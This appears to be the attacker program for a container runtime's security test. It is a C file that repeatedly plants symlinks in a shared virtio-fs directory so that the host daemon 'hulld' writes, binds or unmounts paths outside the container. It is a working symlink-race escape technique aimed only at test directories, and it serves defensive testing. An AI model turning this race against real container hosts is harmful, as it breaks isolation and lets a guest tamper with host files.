/* The hostile guest of server/tests/hostile_share.rs: run in a privileged container that
 * reaches the pod's virtio-fs share at SHARE, it plants symlinks to host paths wherever
 * hulld creates something in the share, as fast as it can, for SECONDS seconds, then
 * prints what it planted and sleeps. Every target is a path of the test's host dirs:
 *
 *   <ctr>/etc          -> HOST/etc      hulld writes hostname and resolv.conf there
 *   <ctr>/mounts       -> HOST/mounts   hulld binds the volumes there
 *   <ctr>/mounts/0..3  -> HOST/bind     a volume bound over a host dir
 *   <ctr>/mounts/evil  -> VICTIM        unmounted when the container is removed
 *                                       (not planted when VICTIM is "-")
 *   <ctr>/rootfs/race  -> HOST/rootfs   hulld makes the volume mount points there
 *
 * usage: attacker SHARE SECONDS HOST VICTIM
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char host_etc[4096], host_mounts[4096], host_bind[4096], host_rootfs[4096];
static const char *victim;
static long planted;

static void plant(const char *target, int dir, const char *name)
{
	if (symlinkat(target, dir, name) == 0)
		planted++;
}

static void attack(int share, const char *ctr)
{
	static const char *slots[] = { "0", "1", "2", "3" };
	int c = openat(share, ctr, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
	if (c < 0)
		return;
	plant(host_etc, c, "etc");
	plant(host_mounts, c, "mounts");
	int m = openat(c, "mounts", O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
	if (m >= 0) {
		for (unsigned i = 0; i < 4; i++)
			plant(host_bind, m, slots[i]);
		if (strcmp(victim, "-") != 0)
			plant(victim, m, "evil");
		close(m);
	}
	int r = openat(c, "rootfs", O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
	if (r >= 0) {
		plant(host_rootfs, r, "race");
		close(r);
	}
	close(c);
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: attacker SHARE SECONDS HOST VICTIM\n");
		return 2;
	}
	const char *host = argv[3];
	victim = argv[4];
	snprintf(host_etc, sizeof host_etc, "%s/etc", host);
	snprintf(host_mounts, sizeof host_mounts, "%s/mounts", host);
	snprintf(host_bind, sizeof host_bind, "%s/bind", host);
	snprintf(host_rootfs, sizeof host_rootfs, "%s/rootfs", host);
	time_t end = time(NULL) + atol(argv[2]);
	long rounds = 0;
	while (time(NULL) < end) {
		DIR *d = opendir(argv[1]);
		if (!d) {
			perror("opendir");
			return 1;
		}
		struct dirent *e;
		while ((e = readdir(d)))
			if (e->d_name[0] != '.')
				attack(dirfd(d), e->d_name);
		closedir(d);
		rounds++;
	}
	printf("attacker: %ld rounds, %ld symlinks planted\n", rounds, planted);
	fflush(stdout);
	for (;;)
		pause();
}
